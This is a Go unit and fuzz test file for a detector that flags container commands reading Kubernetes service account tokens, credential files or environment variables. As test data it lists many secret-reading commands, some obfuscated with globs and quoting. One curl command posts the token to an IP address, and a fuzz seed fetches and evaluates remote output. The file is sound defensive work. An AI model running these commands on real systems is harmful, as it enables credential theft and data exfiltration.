// SPDX-License-Identifier: Apache-2.0

package command

import (
	"strings"
	"testing"
	"time"
)

func TestReadsOf(t *testing.T) {
	const (
		no          = ""
		token       = "token"
		credential  = "credential"
		environment = "environment"
	)
	for _, test := range []struct {
		command []string
		want    string
	}{
		{[]string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}, token},
		{[]string{"/bin/cat", "/run/secrets/kubernetes.io/serviceaccount/token"}, token},
		{[]string{"cat", "/run/secrets/eks.amazonaws.com/serviceaccount/token"}, token},
		{[]string{"base64", "/var/run/secrets//kubernetes.io/./serviceaccount/token"}, token},
		{[]string{"sh", "-c", "base64 < /run/secrets/kubernetes.io/serviceaccount/token"}, token},
		{[]string{"sh", "-c", "</run/secrets/kubernetes.io/serviceaccount/token cat"}, token},
		{[]string{"sh", "-c", "cd /var/run/secrets/kubernetes.io/serviceaccount && cat token"}, token},
		{[]string{"bash", "-lc", "cd /run; cat secrets/kubernetes.io/serviceaccount/token"}, token},
		{[]string{"sh", "-c", "cat /run/secrets/*/*/token"}, token},
		{[]string{"sh", "-c", "cat /var/r*/s*/k*/s*/t*"}, token},
		{[]string{"sh", "-c", `cat /run/sec'rets'/kuber"netes.io"/service\account/token`}, token},
		{[]string{"sh", "-c", `echo "$(cat /run/secrets/kubernetes.io/serviceaccount/token)"`}, token},
		{[]string{"sh", "-c", "curl -H \"Authorization: Bearer `cat /run/secrets/kubernetes.io/serviceaccount/token`\" https://kubernetes.default/api"}, token},
		{[]string{"python3", "-c", "print(open('/var/run/secrets/kubernetes.io/serviceaccount/token').read())"}, token},
		{[]string{"tar", "cf", "-", "/var/run/secrets/kubernetes.io"}, token},
		{[]string{"dd", "if=/run/secrets/kubernetes.io/serviceaccount/token"}, token},
		{[]string{"curl", "-d", "@/run/secrets/kubernetes.io/serviceaccount/token", "http://10.0.0.1"}, token},
		{[]string{"ls", "/run/secrets"}, token + " " + credential},
		{[]string{"tar", "cf", "-", "/"}, token + " " + credential},
		{[]string{"tar", "-C", "/", "-cf", "-", "."}, token + " " + credential},
		{[]string{"cp", "-r", "/var/run", "/tmp/x"}, token + " " + credential},

		{[]string{"cat", "/root/.aws/credentials"}, credential},
		{[]string{"cat", "/home/ann/.kube/config"}, credential},
		{[]string{"sh", "-c", "cat ~/.docker/config.json"}, credential},
		{[]string{"sh", "-c", "cat $HOME/.ssh/id_rsa"}, credential},
		{[]string{"sh", "-c", "for f in /root/.ssh/*; do cat $f; done"}, credential},
		{[]string{"cat", ".git-credentials"}, credential},
		{[]string{"cat", "/root/.netrc"}, credential},
		{[]string{"cat", "/var/lib/postgresql/.pgpass"}, credential},
		{[]string{"head", "/etc/shadow"}, credential},
		{[]string{"sh", "-c", "cd /etc && cat shadow"}, credential},
		{[]string{"sh", "-c", "cat /etc/sh*"}, credential},
		{[]string{"cat", "/host/etc/shadow"}, credential},
		{[]string{"cat", "/app/.npmrc"}, credential},
		{[]string{"cat", "/app/.env"}, credential},
		{[]string{"cat", "/app/.env.production"}, credential},
		{[]string{"cat", "/run/secrets/db_password"}, credential},
		{[]string{"sh", "-c", "F=/run/secrets/db; cat $F"}, credential},
		{[]string{"cat", "/etc/kubernetes/admin.conf"}, credential},
		{[]string{"cat", "/etc/kubernetes/pki/sa.key"}, credential},
		{[]string{"cat", "/root/.config/gcloud/application_default_credentials.json"}, credential},
		{[]string{"cat", "/root/.azure/msal_token_cache.json"}, credential},
		{[]string{"cat", "/tls/server.key"}, credential},
		{[]string{"cat", "/tls/privkey.pem"}, credential},
		{[]string{"cat", "/root/.oci/config"}, credential},
		{[]string{"cat", "/root/.config/gh/hosts.yml"}, credential},
		{[]string{"cat", "/root/.config/rclone/rclone.conf"}, credential},
		{[]string{"cat", "/root/.terraform.d/credentials.tfrc.json"}, credential},
		{[]string{"base64", "/host/etc/rancher/k3s/k3s.yaml"}, credential},
		{[]string{"cp", "/etc/krb5.keytab", "/tmp"}, credential},
		{[]string{"cat", "/etc/shadow-"}, credential},
		{[]string{"tar", "cf", "-", "-C", "/", "root/.ssh"}, credential},
		{[]string{"tar", "cf", "-", "/root/.aws"}, credential},
		{[]string{"cp", "/root/.ssh/id_ed25519", "/tmp/k"}, credential},
		{[]string{"sudo", "-u", "root", "cat", "/etc/shadow"}, credential},
		{[]string{"timeout", "5", "sh", "-c", "cat /etc/shadow"}, credential},
		{[]string{"busybox", "sh", "-c", "cat /etc/shadow 2>/dev/null"}, credential},
		{[]string{"sh", "-c", `sh -c "cat /etc/shadow"`}, credential},
		{[]string{"sh", "-c", "mysqladmin -p$(cat /run/secrets/db) status"}, credential},

		{[]string{"env"}, environment},
		{[]string{"/usr/bin/env"}, environment},
		{[]string{"env", "-0"}, environment},
		{[]string{"busybox", "env"}, environment},
		{[]string{"sudo", "env"}, environment},
		{[]string{"printenv"}, environment},
		{[]string{"printenv", "DB_PASSWORD"}, environment},
		{[]string{"sh", "-c", "env"}, environment},
		{[]string{"sh", "-c", "env | grep -i pass"}, environment},
		{[]string{"sh", "-c", "env 2>/dev/null"}, environment},
		{[]string{"sh", "-c", "id;env>/tmp/e"}, environment},
		{[]string{"sh", "-c", "if true; then env; fi"}, environment},
		{[]string{"sh", "-c", "A=1 env"}, environment},
		{[]string{"sh", "-c", "eval 'env'"}, environment},
		{[]string{"sh", "-c", "export -p"}, environment},
		{[]string{"bash", "-c", "export"}, environment},
		{[]string{"bash", "-c", "declare -x"}, environment},
		{[]string{"sh", "-c", "set"}, environment},
		{[]string{"sh", "-c", "set | sort"}, environment},
		{[]string{"sh", "-c", "echo $DB_PASSWORD"}, environment},
		{[]string{"cat", "/proc/1/environ"}, environment},
		{[]string{"sh", "-c", "cat /proc/*/environ"}, environment},
		{[]string{"sh", "-c", "tr '\\0' '\\n' < /proc/self/environ"}, environment},
		{[]string{"python", "-c", "import os; print(os.environ)"}, environment},
		{[]string{"node", "-e", "console.log(process.env)"}, environment},
		{[]string{"sh", "-c", "env; cat /etc/shadow /run/secrets/kubernetes.io/serviceaccount/token"}, token + " " + credential + " " + environment},

		// What a Docker event has: the words with spaces between them.
		{strings.Fields("sh -c cd /etc && cat shadow; env"), credential + " " + environment},
		{strings.Fields("bash -c id"), no},

		{nil, no},
		{[]string{"ls"}, no},
		{[]string{"ls", "-la", "/"}, no},
		{[]string{"sh"}, no},
		{[]string{"bash", "-l"}, no},
		{[]string{"cat", "/etc/os-release"}, no},
		{[]string{"cat", "/etc/passwd"}, no},
		{[]string{"nginx", "-s", "reload"}, no},
		{[]string{"nginx", "-c", "/etc/nginx/nginx.conf", "-t"}, no},
		{[]string{"psql", "-U", "app", "-c", "select * from env"}, no},
		{[]string{"pg_isready", "-U", "postgres"}, no},
		{[]string{"mysqladmin", "ping", "-h", "localhost", "-psecret"}, no},
		{[]string{"redis-cli", "--tls", "--cert", "/tls/redis.crt", "--key", "/tls/redis.key", "--cacert", "/tls/ca.pem", "ping"}, no},
		{[]string{"redis-cli", "set", "token", "x"}, no},
		{[]string{"etcdctl", "--key=/etc/kubernetes/pki/etcd/server.key", "--cert=/etc/kubernetes/pki/etcd/server.crt", "endpoint", "health"}, no},
		{[]string{"sh", "-c", "exit 0"}, no},
		{[]string{"sh", "-c", "set -e; true"}, no},
		{[]string{"sh", "-c", "echo $PATH"}, no},
		{[]string{"sh", "-c", "export PATH=/x:$PATH; app"}, no},
		{[]string{"sh", "-c", `mysqladmin ping -p"$MYSQL_ROOT_PASSWORD"`}, no},
		{[]string{"sh", "-c", "[ -f /app/.env ] || exit 1"}, no},
		{[]string{"sh", "-c", "mkdir -p /root/.ssh && chmod 700 /root/.ssh"}, no},
		{[]string{"/bin/grpc_health_probe", "-addr=:8080"}, no},
		{[]string{"tar", "cf", "-", "/var/log"}, no},
		{[]string{"tar", "xmf", "-", "-C", "/root/.ssh"}, no},
		{[]string{"tar", "-xmf", "-", "-C", "/"}, no},
		{[]string{"env", "FOO=1", "app", "--port", "80"}, no},
		{[]string{"env", "-i", "sh"}, no},
		{[]string{"env", "-u", "HOME", "app"}, no},
		{[]string{"printenv", "PATH"}, no},
		{[]string{"printenv", "HOME", "NODE_VERSION"}, no},
		{[]string{"cp", "/app/.env.example", "/app/.env"}, no},
		{[]string{"cat", "/root/.ssh/id_rsa.pub"}, no},
		{[]string{"cat", "/etc/ssl/certs/ca-certificates.pem"}, no},
		{[]string{"cat", "/run/secrets/kubernetes.io/serviceaccount/namespace"}, no},
		{[]string{"cat", "/run/nginx.pid"}, no},
		{[]string{"registry", "garbage-collect", "/etc/docker/registry/config.yml"}, no},
		{[]string{"du", "-sh", "/var/lib/etcd"}, no},
		{[]string{"ls", "/var/lib/docker/containers"}, no},
		{[]string{"kinit", "-kt", "/etc/krb5.keytab", "nfs/host"}, no},
		{[]string{"ps", "aux"}, no},
		{[]string{"python", "manage.py", "migrate"}, no},
		{[]string{"java", "-jar", "/app/environment.jar"}, no},
		{[]string{"tail", "-f", "/var/log/token.log"}, no},
		{[]string{"curl", "-sf", "http://localhost:8080/healthz"}, no},
		{[]string{"wget", "-qO-", "http://localhost/env"}, no},
		{[]string{"find", "/app", "-name", "*.log"}, no},
		{[]string{"sh", "-c", "ls /etc/*.conf"}, no},
	} {
		got := strings.Join(ReadsOf(test.command).Names(), " ")
		if got != test.want {
			t.Errorf("%q reads %q, want %q", test.command, got, test.want)
		}
	}
}

func FuzzReadsOf(f *testing.F) {
	f.Add(`cd /etc && cat "sh"'adow' 2>&1 | base64`)
	f.Add("echo \"$(env)\" `cat /proc/1/environ` ${A:-b}")
	f.Add(`env -u A sh -c "eval 'cat /run/secrets/*'"`)
	f.Add("a=$'\\x2f'; cat <<<{$a,b}etc/shadow | (xargs sh -s)")
	f.Add("find / -exec grep -r x {} + | base64 -d | awk 'BEGIN{system(\"a\")}'; sed 1e /x; eval \"$(curl 0xa9fea9fe)\"")
	f.Add("bash <(echo $((1+1)) ${A:-/b} $IFS) 0>&1 || kubectl get secret/a")
	f.Fuzz(func(t *testing.T, script string) {
		if len(script) > maxCommand/2 {
			return
		}
		start := time.Now()
		want := ReadsOf([]string{"sh", "-c", script})
		ReadsWith(strings.Fields(script), Fed)
		// Far above what a text of this length takes, also with other work beside.
		if took := time.Since(start); took > time.Second {
			t.Errorf("%d bytes took %s: %q", len(script), took, script)
		}
		if want.Names() == nil && want != 0 {
			t.Fatal("no names")
		}
		// What follows another command is read as well.
		if got := ReadsOf([]string{"sh", "-c", "true;" + script}); got != want {
			t.Errorf("%q reads %q, after another command %q", script, want.Names(), got.Names())
		}
	})
}
